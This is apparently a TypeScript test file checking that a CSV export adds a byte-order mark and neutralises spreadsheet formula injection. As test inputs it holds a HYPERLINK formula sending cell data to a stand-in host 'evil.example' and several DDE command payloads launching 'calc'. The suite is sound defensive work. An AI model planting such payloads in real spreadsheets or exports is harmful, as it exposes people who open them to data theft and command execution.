import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvFile, safeCell } from './csv'

const BOM = '\uFEFF'
const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'

describe('csvFile', () => {
  it('when a file is written, then it starts with a UTF-8 byte-order mark before the header (Excel reads it as UTF-8)', () => {
    const file = csvFile(['name', 'visits'], [['Amélie', 3]])
    expect(file).toBe(`${BOM}name,visits\nAmélie,3\n`)
    expect([...Buffer.from(file, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it('when a visitor typed a formula, then its cell is text behind an apostrophe and quoted as CSV needs', () => {
    expect(csvFile(['campaign'], [[hyperlink]])).toBe(
      `${BOM}campaign\n"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"\n`,
    )
  })

  it('when a phone number or a plain number starts with + or -, then it is written as typed', () => {
    expect(csvFile(['phone', 'delta'], [['+1 514 555 0101', -3]])).toBe(`${BOM}phone,delta\n+1 514 555 0101,-3\n`)
  })
})

describe('safeCell', () => {
  it.each([
    ['+1 514 555 0101', '+1 514 555 0101'],
    ['+44 20 7946 0958', '+44 20 7946 0958'],
    ['+15145550101', '+15145550101'],
    ['-12.5', '-12.5'],
    ['-3', '-3'],
    ['514-555-0101', '514-555-0101'],
    ['Amélie', 'Amélie'],
    ['', ''],
  ])('when the cell is data such as %j, then it is kept as typed', (typed, written) => {
    expect(safeCell(typed)).toBe(written)
  })

  it.each([
    hyperlink,
    '=1+2',
    '+1-514-555-0101',
    '+1 (514) 555-0101',
    '+1 514 555 0101+A1',
    "+cmd|' /C calc'!A0",
    '-1-2',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+2',
    '\r=1+2',
    '+',
    '-',
  ])('when the cell %j could be read as a formula, then it gets a leading apostrophe', (typed) => {
    expect(safeCell(typed)).toBe(`'${typed}`)
  })

  it('when any text is written, then it is either kept or prefixed, and only data patterns keep a formula character first', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string().map((s) => c + s)),
        ),
        (typed) => {
          const cell = safeCell(typed)
          expect([typed, `'${typed}`]).toContain(cell)
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^(\+\d+( \d+)*|-\d+(\.\d+)?)$/)
        },
      ),
    )
  })

  it('when a cell is null or undefined, then it is empty', () => {
    expect(safeCell(null)).toBe('')
    expect(safeCell(undefined)).toBe('')
  })
})
